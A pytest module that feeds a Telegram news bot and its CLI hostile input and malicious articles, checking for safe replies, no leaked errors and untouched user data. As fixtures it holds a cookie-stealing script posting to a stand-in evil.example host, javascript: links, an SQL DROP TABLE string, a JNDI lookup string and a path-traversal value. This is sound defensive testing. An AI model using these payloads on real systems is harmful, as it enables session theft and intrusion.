"""Hostile and odd input, end to end: the real PTB Application against the Bot API test server, and the CLI.

One bot for the whole module (the seeded corpus plus articles written to be awkward, ingested from JSONL), one
fresh user per case. Every case asserts the reply the user gets; after every case the bot must not have raised
(no apology, no error logged), leaked a stack trace, sent anything Telegram would refuse, or changed the
witness's data (a user who asked, subscribed and set topics before the cases ran).
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import random
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from datetime import datetime, timezone
from pathlib import Path
from typing import Any, Callable

import pytest
import pytest_asyncio

from handlers.errors import SORRY
from handlers.other import UNKNOWN_COMMAND
from tests.botapi import BotApiServer, BotEvent
from tests.test_telegram_bot import quotes, telegram_bot

pytestmark = pytest.mark.asyncio(loop_scope="module")

REPO = Path(__file__).resolve().parents[1]
WITNESS = 4242
GROUP = -100_777
FIRST_USER = 20_000
TEXT_ONLY = "I read text questions only"
TYPE_A_QUESTION = "Please type a question"
TOO_LONG = "characters long; please ask in at most"
DECLINED = "I have nothing on that"
LEAKS = re.compile(r"Traceback|File \"|Exception|Error:|/work/|\.py\b|sqlite|sqlalchemy", re.IGNORECASE)
ANSWERED = "<answered>"  # quotes, or a plain decline with headlines: a real reply to a real question
SILENT = None
STALE = "That button no longer works"
HUGE_PASSAGES = 12
HUGE_WORDS = "pelican harbour regatta lantern mosaic quarry orchard viaduct glacier meadow".split()


# --- hostile articles ---------------------------------------------------------------------------------------------
def hostile_articles() -> list[dict]:
    """Articles as a careless or malicious source would write them; published now so /digest shows them too."""
    now = datetime.now(timezone.utc).isoformat(timespec="seconds")
    rng = random.Random(7)
    huge = " ".join(rng.choice(HUGE_WORDS) for _ in range(150_000))  # ~1 MB, one paragraph, not one sentence
    return [
        {"id": "hostile-script", "published": now, "url": "javascript:alert(1)",
         "title": '<script>alert("t")</script> Quillon council </blockquote> votes',
         "source": "<b>Evil</b> & Co", "author": "</i><a href=\"javascript:alert(2)\">x</a>",
         "text": ('<script>document.location="http://evil.example/"+document.cookie</script> The Quillon council '
                  'voted on Tuesday to close the <b>old</b> ferry pier &amp; the boathouse. "We had no choice," '
                  'said the mayor, Ada <i>Brightwater</i>. </blockquote><a href="javascript:alert(3)">Read more</a>')},
        {"id": "hostile-huge", "published": now, "title": "Pelican harbour regatta lantern mosaic",
         "source": "Hugewire", "text": huge},
        {"id": "hostile-nosentences", "published": now, "title": "glacier meadow orchard",
         "source": "Run-on Daily", "text": "glacier meadow orchard viaduct quarry with no stop anywhere at all "
                                           "and the lantern mosaic goes on and on and on"},
        {"id": "hostile-numbers", "published": now, "title": "1987 2024 3.14", "source": "Numbers Only",
         "text": " ".join(str(rng.randint(0, 10**6)) for _ in range(400))},
        {"id": "hostile-url", "published": now, "url": 'https://example.com/a"><script>x</script>?q=<b>',
         "title": "Zeldor bridge toll \u202edesrever\u202c \u200bzero\u200bwidth",
         "source": "RTL \u05e9\u05dc\u05d5\u05dd",
         "text": "The Zeldor bridge toll rose to 5 crowns\u0007 on Monday, the operator said.\u200b\u200b "
                 "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645. Drivers complained."},
        {"id": "hostile-empty", "published": now, "title": "   ", "text": "   "},
    ]


# --- the module's bot -------------------------------------------------------------------------------------------
@dataclass
class Harness:
    server: BotApiServer
    app: Any
    errors: list[logging.LogRecord]
    witness_topic: int
    witness_before: dict
    data_dir: Path
    next_user: int = FIRST_USER

    def user(self) -> int:
        self.next_user += 1
        return self.next_user


class _Errors(logging.Handler):
    def __init__(self, into: list) -> None:
        super().__init__(logging.ERROR)
        self.into = into

    def emit(self, record: logging.LogRecord) -> None:
        self.into.append(record)


def witness_state(app) -> dict:
    """Everything stored about the witness, to prove no case touched it."""
    store = app.corpus.store
    row = store.load_conversation(f"tg:{WITNESS}")
    view = app.digests.view(WITNESS)
    return {"conversation": row.state_json if row else None, "version": getattr(row, "version", None),
            "subscribed": view.subscribed, "paused": view.paused, "topics": view.topics,
            "time": view.digest_time, "zone": view.timezone}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def bot(seeded_dir, encoder, tmp_path_factory):
    from bot.app import Briefbot
    from bot.settings import Settings

    root = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as mp:
        for name in ("DATABASE_URL", "TELEGRAM_BOT_TOKEN", "WEBHOOK_URL", "TELEGRAM_API_BASE_URL", "ADMIN_IDS"):
            mp.delenv(name, raising=False)
        mp.chdir(root)
        data_dir = root / "data"
        shutil.copytree(seeded_dir, data_dir)
        app = Briefbot.open(Settings(BRIEFBOT_DATA_DIR=data_dir, ADMIN_IDS="1"), encoder=encoder)
        articles = root / "hostile.jsonl"
        articles.write_text("".join(json.dumps(a) + "\n" for a in hostile_articles()), encoding="utf-8")
        mp.setattr("bot.corpus.MAX_PASSAGES_PER_ARTICLE", HUGE_PASSAGES)  # the real cap is 200; 12 is quicker
        report = app.corpus.ingest_paths([articles])
        assert report.added == 5 and len(report.failures) == 1, report.summary()
        huge = app.corpus.store.find_article("id:hostile-huge")
        assert app.corpus.store.passage_at(huge.id, HUGE_PASSAGES - 1) and not app.corpus.store.passage_at(
            huge.id, HUGE_PASSAGES), "a 1 MB paragraph is cut into bounded passages, and only so many are indexed"

        errors: list[logging.LogRecord] = []
        catcher = _Errors(errors)
        logging.getLogger().addHandler(catcher)
        try:
            async with telegram_bot(app) as server:
                app.digests.subscribe(WITNESS, "oil prices, iran")
                app.digests.set_time(WITNESS, "07:30")
                app.digests.set_timezone(WITNESS, "Europe/Berlin")
                server.send_text(WITNESS, "why did Iran strike Pakistan?")
                (answer,) = await server.wait_for_messages(WITNESS, 1, timeout=60, methods=["sendMessage"])
                topic = int([d for d in answer.button_data() if d.startswith("m:")][0][2:])
                harness = Harness(server, app, errors, topic, witness_state(app), data_dir)
                yield harness
        finally:
            logging.getLogger().removeHandler(catcher)


# --- playing a user -----------------------------------------------------------------------------------------------
def message_update(chat: dict, sender: dict | None, **fields: Any) -> dict:
    message = {"chat": chat, **fields}
    if sender is not None:
        message["from"] = sender
    return message


def private(user: int) -> dict:
    return {"id": user, "type": "private", "first_name": f"U{user}"}


def person(user: int) -> dict:
    return {"id": user, "is_bot": False, "first_name": f"U{user}"}


def text(value: str) -> Callable:
    return lambda h, user: h.server.send_text(user, value)


def raw(kind: str, **fields: Any) -> Callable:
    """A raw update of `kind` in the user's private chat (stickers, documents, edits...)."""
    return lambda h, user: h.server.send_update({kind: message_update(private(user), person(user), **fields)})


def button(data: str | Callable[[Harness], str], with_message: bool = True) -> Callable:
    """A callback query with forged data, on a message of the user's own chat."""

    def act(h: Harness, user: int) -> dict:
        value = data(h) if callable(data) else data
        query: dict = {"id": f"q{user}", "from": person(user), "chat_instance": str(user)}
        if value is not None:
            query["data"] = value
        if with_message:
            query["message"] = {"message_id": 1, "date": 0, "chat": private(user), "text": "an old answer"}
        else:
            query["inline_message_id"] = f"inline-{user}"
        h.server.send_update({"callback_query": query})
        return query

    return act


def group_text(value: str, addressed_by_reply: bool = False) -> Callable:
    """A group message; sent as a raw update, so the bot sees it even where privacy mode would hide it."""

    def act(h: Harness, user: int) -> None:
        fields: dict = {"text": value}
        if addressed_by_reply:
            fields["reply_to_message"] = {"message_id": 1, "date": 0, "from": person(user + 1),
                                          "chat": {"id": GROUP, "type": "group", "title": "G"},
                                          "text": "someone else's message"}
        h.server.send_update({"message": message_update({"id": GROUP, "type": "group", "title": "G"}, person(user),
                                                        **fields)})

    return act


def channel_post(value: str) -> Callable:
    return lambda h, user: h.server.send_text(user, value, chat_id=-100_555, chat_type="channel")


def junk_bytes() -> str:
    return random.Random(64).randbytes(64).decode("latin-1")


STICKER = {"file_id": "x", "file_unique_id": "y", "width": 1, "height": 1, "is_animated": False, "is_video": False,
           "type": "regular"}
DOCUMENT = {"file_id": "d", "file_unique_id": "e", "file_name": "<script>.exe", "mime_type": "application/x-msdownload"}
PHOTO = [{"file_id": "p", "file_unique_id": "q", "width": 10, "height": 10}]
FIVE_HUNDRED_TOPICS = ", ".join(f"topic {i}" for i in range(500))


@dataclass
class Case:
    id: str
    act: Callable
    reply: str | tuple[str, ...] | None  # in the user's first message back; ANSWERED; SILENT: no message at all
    callback: str | None = None  # how the callback query's answer starts, for buttons
    messages: int = 1  # messages expected back


CASES = [
    # empty, whitespace, length
    Case("empty-text", text(""), TEXT_ONLY),
    Case("whitespace", text(" \n\t  "), TYPE_A_QUESTION),
    Case("punctuation-only", text("?!?! ... ;;"), TYPE_A_QUESTION),
    Case("4096-words", text(("why did iran strike " * 205)[:4096]), TOO_LONG),
    Case("4096-one-word", text("x" * 4096), TOO_LONG),
    Case("4096-angle-brackets", text("<" * 4096), TYPE_A_QUESTION),
    Case("4096-ampersands-and-a-word", text("why " + "&" * 4092), TOO_LONG),
    Case("1000-chars-exactly", text(("what did the Afghan robotics team win " * 30)[:1000]), ANSWERED),
    # scripts, emoji, invisible characters
    Case("emoji-only", text("🔥🔥🇮🇷👍🏽‍"), TYPE_A_QUESTION),
    Case("emoji-and-question", text("🇮🇷 why did Iran strike Pakistan? 🇵🇰🔥"), ANSWERED),
    Case("rtl-arabic", text("لماذا ضربت إيران باكستان؟"), ANSWERED),
    Case("rtl-override", text("\u202ewhy did Iran strike Pakistan?\u202c"), ANSWERED),
    Case("zero-width-only", text("\u200b\u200c\u200d\ufeff\u2060"), TYPE_A_QUESTION),
    Case("zero-width-inside", text("why\u200b did\u200d Iran\ufeff strike Pakistan?"), ANSWERED),
    Case("control-characters", text("\x00\x01why did Iran\x07 strike\x1b[31m Pakistan?\x7f"), ANSWERED),
    Case("math-alphanumerics", text("𝕨𝕙𝕪 𝕕𝕚𝕕 𝕀𝕣𝕒𝕟 𝕤𝕥𝕣𝕚𝕜𝕖?"), ANSWERED),
    Case("combining-marks", text("w\u0336h\u0336y\u0336 " * 40), ANSWERED),
    # injection
    Case("html-bold", text("<b>why</b> did Iran strike <i>Pakistan</i>?"), ANSWERED),
    Case("html-close-blockquote", text("</blockquote></b></i> why did Iran strike?"), ANSWERED),
    Case("html-javascript-link", text('<a href="javascript:alert(1)">why did Iran strike?</a>'), ANSWERED),
    Case("html-entities", text("&amp; &lt;b&gt; &#0; &#x110000; & why did Iran strike?"), ANSWERED),
    Case("markdown", text("*why* _did_ [Iran](javascript:alert(1)) `strike` ~~Pakistan~~ ||?||"), ANSWERED),
    Case("sql", text("'; DROP TABLE article; -- why did Iran strike?"), ANSWERED),
    Case("format-strings", text("%s %n {0} {__class__} ${jndi:ldap://x} why Iran?"), ANSWERED),
    # commands and junk arguments
    Case("unknown-command", text("/frobnicate now"), UNKNOWN_COMMAND[:30]),
    Case("command-for-another-bot", text("/start@some_other_bot"), UNKNOWN_COMMAND[:30]),
    Case("time-25-99", text("/time 25:99"), "isn't a time of day"),
    Case("time-words", text("/time half past <b>seven</b>"), "isn't a time I understand"),
    Case("time-huge-number", text("/time " + "9" * 400), "isn't a time I understand"),
    Case("timezone-mars", text("/timezone Mars/Olympus"), "I don't know the time zone"),
    Case("timezone-html", text("/timezone <script>alert(1)</script>"), "I don't know the time zone"),
    Case("timezone-path", text("/timezone ../../../../etc/passwd"), "I don't know the time zone"),
    Case("subscribe-500-topics", text("/subscribe " + FIVE_HUNDRED_TOPICS), "at most 10 topics"),
    Case("topics-add-500", text("/topics add " + FIVE_HUNDRED_TOPICS), "at most 10 topics"),
    Case("topics-remove-huge", text("/topics remove 99999999999999999999999999"), "Not found"),
    Case("topics-add-symbols", text("/topics add <>, &&, ;;"), "isn't a topic"),
    Case("ask-without-question", text("/ask"), "Ask like this"),
    Case("deep-link-junk", text("/start q_%00%FF<script>"), ANSWERED),
    Case("deep-link-empty", text("/start q_"), "Hello"),
    Case("addfeed-not-admin", text("/addfeed http://127.0.0.1/rss"), "not allowed"),
    Case("removefeed-not-admin", text("/removefeed 1"), "not allowed"),
    # forged and stale buttons
    Case("button-topic-missing", button("m:999999"), "Ask me a question first"),
    Case("button-topic-of-another-user", button(lambda h: f"m:{h.witness_topic}"), "Ask me a question first"),
    Case("button-topic-huge", button("m:" + "9" * 40), SILENT, callback=STALE),
    Case("button-topic-negative", button("m:-1"), SILENT, callback=STALE),
    Case("button-article-missing", button("a:999999:0"), SILENT, callback=STALE),
    Case("button-article-part-out-of-range", button("a:1:99999"), SILENT, callback=STALE),
    Case("button-article-huge", button("a:" + "9" * 30 + ":0"), SILENT, callback=STALE),
    Case("button-64-bytes-junk", button(junk_bytes()), SILENT, callback=STALE),
    Case("button-65-x", button("x" * 65), SILENT, callback=STALE),
    Case("button-ask-about-missing", button("f:999999999"), "no longer stored"),
    Case("button-ask-about-19-digits", button("f:" + "9" * 19), SILENT, callback=STALE),
    Case("button-timezone-mars", button("tz:Mars/Olympus"), SILENT, callback=STALE),
    Case("button-without-data", button(None), SILENT, callback=STALE),
    Case("button-inline-message", button("m:1", with_message=False), SILENT, callback=STALE),
    # things that are not questions
    Case("edited-message", raw("edited_message", text="why did Iran strike?", edit_date=1), SILENT),
    Case("channel-post", channel_post("/start why did Iran strike?"), SILENT),
    Case("sticker", raw("message", sticker=STICKER), TEXT_ONLY),
    Case("document", raw("message", document=DOCUMENT, caption="<b>why</b> did Iran strike?"), TEXT_ONLY),
    Case("photo", raw("message", photo=PHOTO), TEXT_ONLY),
    Case("location", raw("message", location={"latitude": 0.0, "longitude": 0.0}), TEXT_ONLY),
    Case("group-not-addressed", group_text("why did Iran strike Pakistan?"), SILENT),
    Case("group-reply-to-someone-else", group_text("why did Iran strike?", addressed_by_reply=True), SILENT),
    Case("group-sticker", lambda h, u: h.server.send_update({"message": message_update(
        {"id": GROUP, "type": "group", "title": "G"}, person(u), sticker=STICKER)}), SILENT),
    Case("group-mention-only", group_text("@briefbot_test_bot"), TYPE_A_QUESTION),
    Case("group-ask-html", lambda h, u: h.server.send_text(
        u, "/ask@briefbot_test_bot </blockquote>why did Iran strike?", chat_id=GROUP, chat_type="group"), ANSWERED),
    Case("group-ask-nothing", lambda h, u: h.server.send_text(u, "/ask", chat_id=GROUP, chat_type="group"),
         "Ask like this"),
]


def _first_matching(expected: str | tuple[str, ...], value: str) -> bool:
    options = (expected,) if isinstance(expected, str) else expected
    return any(option in value for option in options)


async def play(h: Harness, case: Case) -> tuple[int, list[BotEvent], dict | None]:
    """Run one case as a fresh user; returns (chat, messages the bot sent there, the callback query answer)."""
    server = h.server
    user = h.user()
    chat = GROUP if case.id.startswith("group") else user
    before = len(server.sent_messages(chat, methods=["sendMessage"]))
    update = case.act(h, user)
    query_id = update.get("id") if isinstance(update, dict) and "chat_instance" in update else None
    if query_id is not None:
        await server.wait_for(lambda: [1] if query_id in server.callback_answers else [], 1, timeout=30)
    if case.reply is SILENT:
        await server.wait_for(lambda: [] if server.pending_updates else [1], 1, timeout=30)
        await asyncio.sleep(0.6)  # a reply, if one were coming, would be here by now
    else:
        await server.wait_for_messages(chat, before + case.messages, timeout=60, methods=["sendMessage"])
        await asyncio.sleep(0.2)
    sent = server.sent_messages(chat, methods=["sendMessage"])[before:]
    return chat, sent, server.callback_answers.get(query_id) if query_id else None


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
async def test_hostile_input_gets_a_clear_reply_and_nothing_else(bot: Harness, case: Case):
    chat, sent, answered = await play(bot, case)
    texts = [e.text or "" for e in sent]
    if case.reply is SILENT:
        assert not sent, texts
    elif case.reply == ANSWERED:
        assert sent and (quotes(sent[0]) or DECLINED in texts[0]), texts
    else:
        assert sent and _first_matching(case.reply, texts[0]), texts
    if case.callback is not None:
        assert answered is not None and (answered["text"] or "").startswith(case.callback), answered
    assert_unharmed(bot, texts)


def assert_unharmed(h: Harness, texts: list[str]) -> None:
    """Nothing raised, nothing leaked, nothing refused by Telegram, and the witness's data is as it was."""
    errors, h.errors[:] = list(h.errors), []
    assert not [t for t in texts if SORRY in t or LEAKS.search(t)], texts
    assert not errors, [(r.getMessage(), r.exc_info and repr(r.exc_info[1])) for r in errors]
    h.server.assert_no_violations()
    assert not h.server.server_errors
    assert witness_state(h.app) == h.witness_before


# --- cases that need a few steps ---------------------------------------------------------------------------------
async def test_a_question_quoting_the_bots_own_passage_finds_that_passage(bot: Harness):
    user = bot.user()
    bot.server.send_text(user, "how many people were killed in the Kerman bombing?")
    (answer,) = await bot.server.wait_for_messages(user, 1, timeout=60, methods=["sendMessage"])
    quoted = quotes(answer)[0]
    bot.server.send_text(user, quoted, reply_to=answer)
    (again,) = (await bot.server.wait_for_messages(user, 2, timeout=60, methods=["sendMessage"]))[1:]
    assert quotes(again)[0] == quoted
    assert_unharmed(bot, [again.text or ""])


async def test_a_question_quoting_a_whole_bot_message_is_told_the_limit(bot: Harness):
    user = bot.user()
    bot.server.send_text(user, "/latest")
    (latest,) = await bot.server.wait_for_messages(user, 1, timeout=30, methods=["sendMessage"])
    bot.server.send_text(user, latest.text * 3)
    (reply,) = (await bot.server.wait_for_messages(user, 2, timeout=60, methods=["sendMessage"]))[1:]
    assert TOO_LONG in reply.text
    assert_unharmed(bot, [reply.text or ""])


async def test_a_user_who_blocks_and_unblocks_the_bot_is_paused_then_answered_again(bot: Harness):
    server, digests = bot.server, bot.app.digests
    user = bot.user()
    server.send_text(user, "/subscribe")
    await server.wait_for_messages(user, 1, timeout=30, methods=["sendMessage"])
    server.block(user)
    await server.wait_for(lambda: [1] if digests.view(user).paused else [], 1, timeout=30)
    server.send_update({"message": message_update(private(user), person(user), text="why did Iran strike?")})
    await server.wait_for(lambda: [r for r in server.requests if r.status == 403 and
                                   str(r.params.get("chat_id")) == str(user)], 1, timeout=30)
    server.unblock(user)
    await server.wait_for(lambda: [] if digests.view(user).paused else [1], 1, timeout=30)
    server.send_text(user, "why did Iran strike Pakistan?")
    replies = await server.wait_for_messages(user, 2, timeout=60, methods=["sendMessage"])
    assert quotes(replies[-1])
    assert digests.view(user).subscribed and not digests.view(user).paused
    assert_unharmed(bot, [e.text or "" for e in replies])


# --- hostile articles, as they reach users -------------------------------------------------------------------------
async def ask_and_get(h: Harness, question: str) -> list[BotEvent]:
    """Every message of the reply (a long one comes in several, the buttons under the last)."""
    user = h.user()
    h.server.send_text(user, question)
    await h.server.wait_for_messages(user, 1, timeout=60, methods=["sendMessage"])
    await asyncio.sleep(0.5)
    return h.server.sent_messages(user, methods=["sendMessage"])


async def test_an_article_with_script_tags_is_shown_as_text(bot: Harness):
    sent = await ask_and_get(bot, "why did the Quillon council close the ferry pier?")
    answer = sent[0]
    quoted = "".join(quotes(answer))
    assert 'document.location="http://evil.example/"+document.cookie The Quillon council voted' in quoted
    assert 'Quillon council votes · <b>Evil</b> & Co, by </i><a href="javascript:alert(2)">x</a>' in answer.text
    links = [e.get("url") for e in answer.entities if e["type"] == "text_link"]
    assert not [u for u in links if u.startswith("javascript")], links
    data = [d for d in sent[-1].button_data() if d.startswith("a:")]
    assert data, "a javascript: link is no link: the article is offered in the chat instead"
    user = answer.chat_id
    bot.server.press_button(user, sent[-1], data[0])
    full = (await bot.server.wait_for_messages(user, len(sent) + 1, timeout=30, methods=["sendMessage"]))[-1]
    assert full.text.startswith('scriptalert("t") Quillon council votes'), "wire tags are cleaned; no markup"
    assert_unharmed(bot, [answer.text, full.text])


async def test_a_one_megabyte_paragraph_is_answered_and_shown_in_parts(bot: Harness):
    *_, answer = await ask_and_get(bot, "pelican harbour regatta lantern mosaic")
    shown = bot.server.sent_messages(answer.chat_id, methods=["sendMessage"])
    assert all(0 < len(q) <= 2000 for e in shown for q in quotes(e)), "passages are bounded however long the paragraph"
    assert "Pelican harbour regatta lantern mosaic · Hugewire" in shown[0].text, shown[0].text[-300:]
    data = [d for d in answer.button_data() if d.startswith("a:")][0]
    bot.server.press_button(answer.chat_id, answer, data)
    part = (await bot.server.wait_for_messages(answer.chat_id, len(shown) + 1, timeout=30, methods=["sendMessage"]))[-1]
    (more,) = part.button_data()
    assert re.fullmatch(r"a:\d+:1", more) and "Continue (2/" in json.dumps(part.reply_markup)
    assert_unharmed(bot, [answer.text, part.text])


@pytest.mark.parametrize("question, expected", [
    ("glacier meadow orchard viaduct quarry", "glacier meadow orchard viaduct quarry"),
    ("Zeldor bridge toll crowns", "Zeldor bridge toll rose to 5 crowns"),
], ids=["no-sentences", "rtl-and-control-characters"])
async def test_articles_without_sentences_or_with_odd_characters_are_quoted(bot: Harness, question, expected):
    answer, *_ = await ask_and_get(bot, question)
    assert expected in "".join(quotes(answer))
    assert_unharmed(bot, [answer.text])


async def test_an_article_of_only_numbers_never_answers_words(bot: Harness):
    answer, *_ = await ask_and_get(bot, "what did the numbers say about the harvest?")
    assert not [q for q in quotes(answer) if re.fullmatch(r"[\d\s]+", q)], answer.text
    assert_unharmed(bot, [answer.text])


@pytest.mark.parametrize("command, expected", [
    ("/latest", "1987 2024 3.14 — Numbers Only"),
    ("/sources", "<b>Evil</b> & Co"),
    ("/digest", "Your briefing"),
], ids=["latest", "sources", "digest"])
async def test_hostile_titles_and_outlets_in_lists_and_digests(bot: Harness, command, expected):
    sent = await ask_and_get(bot, command)
    await asyncio.sleep(1.0)  # a digest comes in several messages, a second apart
    texts = [e.text or "" for e in bot.server.sent_messages(sent[0].chat_id, methods=["sendMessage"])]
    assert expected in "\n".join(texts), texts
    assert_unharmed(bot, texts)


# --- the same through the CLI ---------------------------------------------------------------------------------------
CLI_LINES = [
    ("", "error", TYPE_A_QUESTION), ("   \t ", "error", TYPE_A_QUESTION), ("🔥🔥🔥", "error", TYPE_A_QUESTION),
    ("\u200b\u200d\ufeff", "error", TYPE_A_QUESTION), ("x" * 4096, "error", TOO_LONG),
    ("</blockquote><b>why did Iran strike Pakistan?", ("answer", "declined"), None),
    ("\x1b[2J\x07why did Iran strike Pakistan?", ("answer", "declined"), None),
    ("who said that?", ("attribution", "notice", "answer", "declined"), None),
    ("لماذا ضربت إيران باكستان؟", ("answer", "declined", "notice"), None),
    ("more", ("more", "notice", "answer", "declined"), None),
]


def run_cli(args: list[str], data_dir: Path, stdin: str = "", timeout: float = 120) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "TELEGRAM_BOT_TOKEN")}
    env["HF_HUB_OFFLINE"] = "1"
    return subprocess.run([sys.executable, "-m", "bot.cli", *args, "--data-dir", str(data_dir)], input=stdin,
                          capture_output=True, text=True, encoding="utf-8", timeout=timeout, cwd=REPO, env=env)


async def test_cli_chat_json_answers_every_hostile_line_with_one_json_line(bot: Harness):
    stdin = "".join(line.replace("\n", " ") + "\n" for line, _, _ in CLI_LINES)
    result = await asyncio.to_thread(run_cli, ["chat", "--json", "--chat-id", "hostile"], bot.data_dir, stdin)
    assert result.returncode == 0, result.stderr[-2000:]
    replies = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(replies) == len(CLI_LINES), result.stdout[-2000:]
    for (line, kinds, message), reply in zip(CLI_LINES, replies):
        assert reply["kind"] in ((kinds,) if isinstance(kinds, str) else kinds), (line[:40], reply)
        if message:
            assert message in reply["message"], (line[:40], reply)
    assert "Traceback" not in result.stderr, result.stderr[-2000:]


@pytest.mark.parametrize("question, code, expected", [
    ("<script>alert(1)</script> why did Iran strike Pakistan?", 0, '"answered"'),
    ("\u200b", 2, TYPE_A_QUESTION),
    ("why " * 1100, 2, TOO_LONG),
], ids=["script", "zero-width", "too-long"])
async def test_cli_ask_json_with_hostile_questions(bot: Harness, question, code, expected):
    result = await asyncio.to_thread(run_cli, ["ask", "--json", question], bot.data_dir)
    assert result.returncode == code, result.stderr[-2000:]
    assert expected in (result.stdout if code == 0 else result.stderr)
    assert "Traceback" not in result.stderr
